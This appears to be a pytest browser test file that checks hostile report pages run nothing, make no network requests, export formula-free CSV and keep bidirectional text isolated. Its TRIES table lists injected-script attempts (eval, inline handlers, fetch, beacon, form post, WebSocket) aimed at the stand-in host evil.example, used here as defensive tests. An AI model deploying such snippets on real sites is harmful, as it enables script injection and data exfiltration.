"""Hostile pages in a browser: nothing runs, is asked for, or breaks the page."""

import csv
import io

import pytest

from tests.hostile.checking import steady, turning
from tests.hostile.test_tables import FORMULA
from tests.reports.browser.conftest import PHONE
from tools.pictures.browser import draw_all

pytestmark = pytest.mark.browser

# What an injected script would try. Each is refused by the page's policy.
TRIES = {
    # Later, since whoever drives the browser may do more than a page may.
    "eval": "() => new Promise((done) => setTimeout(() => { try { (0, eval)('1');"
    " done('ran') } catch { done('refused') } }))",
    "function": "() => new Promise((done) => setTimeout(() => { try {"
    " new Function('1')(); done('ran') } catch { done('refused') } }))",
    "timer": "() => new Promise((done) => setTimeout(() => { try {"
    " setTimeout('window.foreign = 1', 0) } catch {}"
    " setTimeout(() => done(window.foreign ? 'ran' : 'refused'), 20) }))",
    "handler": "() => { const one = document.createElement('b');"
    " one.setAttribute('onclick', 'window.foreign = 1'); document.body.append(one);"
    " one.click(); one.remove(); return window.foreign ? 'ran' : 'refused' }",
    "script": "() => { const one = document.createElement('script');"
    " one.textContent = 'window.foreign = 1'; document.head.append(one);"
    " return window.foreign ? 'ran' : 'refused' }",
    "fetch": "() => fetch('https://evil.example/').then(() => 'ran', () => 'refused')",
    "data_script": "() => new Promise((done) => { const one ="
    " document.createElement('script'); one.onload = () => done('ran');"
    " one.onerror = () => done('refused'); one.src = 'data:text/javascript,0';"
    " document.head.append(one) })",
    "image": "() => new Promise((done) => { const one = new Image();"
    " one.onload = () => done('ran'); one.onerror = () => done('refused');"
    " one.src = 'https://evil.example/i.png' })",
    "socket": "() => new Promise((done) => { try { const one ="
    " new WebSocket('wss://evil.example/'); one.onerror = () => done('refused');"
    " one.onopen = () => done('ran') } catch { done('refused') } })",
    "base": "() => { const one = document.createElement('base');"
    " one.href = 'https://evil.example/'; document.head.append(one);"
    " return document.baseURI.includes('evil') ? 'ran' : 'refused' }",
    "beacon": "() => { navigator.sendBeacon('https://evil.example/', 'x');"
    " return 'refused' }",
    "form": "() => { const one = document.createElement('form'); one.method = 'post';"
    " one.action = 'https://evil.example/'; document.body.append(one); one.submit();"
    " return 'refused' }",
    "style_sheet": "() => new Promise((done) => { const one ="
    " document.createElement('link'); one.rel = 'stylesheet';"
    " one.onload = () => done('ran'); one.onerror = () => done('refused');"
    " one.href = 'https://evil.example/s.css'; document.head.append(one) })",
    "frame": "() => new Promise((done) => { const one ="
    " document.createElement('iframe'); one.srcdoc = '<script>parent.foreign=1<' +"
    " '/script>'; one.onload = () => done(window.foreign ? 'ran' : 'refused');"
    " document.body.append(one) })",
}
OUTSIDE = """
() => {
  const wide = document.documentElement.clientWidth;
  const held = (node) => node.closest('.scroll, pre, svg, select, .vh, dialog');
  return [...document.querySelectorAll('body *')].filter((node) => {
    const box = node.getBoundingClientRect();
    return box.width && box.right > wide + 1 && !held(node);
  }).map((node) => `${node.tagName}.${node.className} ${node.textContent.slice(0, 9)}`);
}
"""


class Watch:
    """A page that was opened, and everything that it must not do."""

    def __init__(self, page, address):
        self.page = page
        self.complaints = []
        self.requests = []
        page.on("console", lambda message: self.complaints.append(message.text))
        page.on("pageerror", lambda error: self.complaints.append(str(error)))
        page.on("dialog", lambda one: (self.complaints.append("dialog"), one.dismiss()))
        page.on("popup", lambda _: self.complaints.append("popup"))
        page.on("request", lambda request: self.requests.append(request.url))
        page.goto(address)
        self.requests.remove(address)

    def is_still(self):
        """Fail if anything ran, was asked for, or was complained about."""
        local = [one for one in self.requests if one.startswith("blob:")]
        assert self.requests == local
        assert self.complaints == []
        assert self.page.evaluate("typeof window.foreign") == "undefined"
        assert self.page.evaluate("typeof ({}).polluted") == "undefined"


@pytest.fixture
def open_page(chromium, hostile_client):
    contexts = []

    def opened(name, **options):
        context = chromium.new_context(viewport=PHONE, **options)
        contexts.append(context)
        file = hostile_client.folder / f"{name}.html"
        return Watch(context.new_page(), file.as_uri())

    yield opened
    for context in contexts:
        context.close()


@pytest.mark.parametrize(
    "name", ["private", "shareable", "german", "portfolio", "before_after"]
)
def test_a_hostile_page_is_a_page_like_any_other(open_page, name):
    seen = open_page(name)
    page = seen.page
    page.eval_on_selector_all("details", "all => all.forEach(one => one.open = true)")
    draw_all(page)
    if name in ("private", "german"):
        _read_everything(page)
    seen.is_still()
    assert page.evaluate(OUTSIDE) == []
    width = "[document.documentElement.scrollWidth, innerWidth]"
    assert page.evaluate(width) == [PHONE["width"]] * 2


def _read_everything(page):
    """Open evidence, a talk, and what settles an open loop, as a reader does."""
    page.locator("#evidence").scroll_into_view_if_needed()
    page.wait_for_selector("#ev-table tbody tr")
    page.select_option("#ev-number", "")
    for channel in page.locator("#ev-channel option").all():
        page.select_option("#ev-channel", channel.get_attribute("value"))
        assert page.locator("#ev-table tbody tr").count() > 0
        assert page.evaluate(OUTSIDE) == []
    _talks_are_text(page)
    page.locator("#loops").scroll_into_view_if_needed()
    page.wait_for_selector("#loops details.settling")
    page.eval_on_selector_all("details", "all => all.forEach(one => one.open = true)")
    for button in page.locator("#loops details.settling button").all()[:12]:
        button.dispatch_event("click")
    page.locator("#loops-pages button").last.dispatch_event("click")


def _talks_are_text(page):
    for button in page.locator("#ev-table td.z button").all()[:10]:
        button.dispatch_event("click")
        talk = page.locator("#ev-talk")
        assert talk.locator("li").count() > 0
        for link in talk.locator("a").all():
            assert link.get_attribute("href").startswith(("http://", "https://"))
            assert "noreferrer" in link.get_attribute("rel")
        page.locator("#ev-close").dispatch_event("click")


def test_names_that_scripts_put_into_a_line_keep_their_direction(open_page):
    page = open_page("private").page
    page.locator("#evidence").scroll_into_view_if_needed()
    page.wait_for_selector("#ev-table tbody tr")
    page.select_option("#ev-number", "")
    page.locator("#ev-person").fill("\u05de")
    assert page.locator("#ev-table tbody th").count()
    for place in range(page.locator("#ev-table td.z button").count()):
        page.locator("#ev-table td.z button").nth(place).dispatch_event("click")
        assert not [text for text in _bare(page, "#ev-talk *") if turning(text)]
        page.locator("#ev-close").dispatch_event("click")
    bare = _bare(page, "#ev-table tbody *, #loops tbody *")
    assert not [text for text in bare if turning(text)]


def _bare(page, where):
    """Return texts that no element sets apart."""
    return page.eval_on_selector_all(
        where,
        "all => all.filter(one => !one.closest('bdi')).flatMap(one =>"
        " [...one.childNodes].filter(n => n.nodeType === 3).map(n => n.data))",
    )


@pytest.mark.parametrize("button", ["#ev-csv", "#loops table.loops ~ p.csv button"])
def test_a_saved_table_holds_no_formula(open_page, button, tmp_path):
    page = open_page("private", accept_downloads=True).page
    page.locator("#evidence").scroll_into_view_if_needed()
    page.wait_for_selector("#ev-table tbody tr")
    page.select_option("#ev-number", "")
    page.wait_for_selector(button)
    with page.expect_download() as saving:
        page.locator(button).first.dispatch_event("click")
    saving.value.save_as(tmp_path / "table.csv")
    steady(saving.value.suggested_filename)
    text = (tmp_path / "table.csv").read_bytes().decode("utf-8-sig")
    csv.field_size_limit(10_000_000)
    rows = [*csv.reader(io.StringIO(text, newline=""))]
    assert len(rows) > 20
    assert {len(row) for row in rows} == {len(rows[0])}
    assert not [cell for row in rows for cell in row if FORMULA.match(cell)]


@pytest.mark.parametrize("name", TRIES)
def test_the_policy_refuses_what_a_foreign_script_would_try(open_page, name):
    seen = open_page("before_after")
    address = seen.page.url
    assert seen.page.evaluate(TRIES[name]) == "refused"
    seen.page.wait_for_timeout(50)
    told = name in ("eval", "function")  # these are told by an error of their own
    assert seen.complaints or told
    assert seen.page.url == address
    assert seen.page.evaluate("typeof window.foreign") == "undefined"
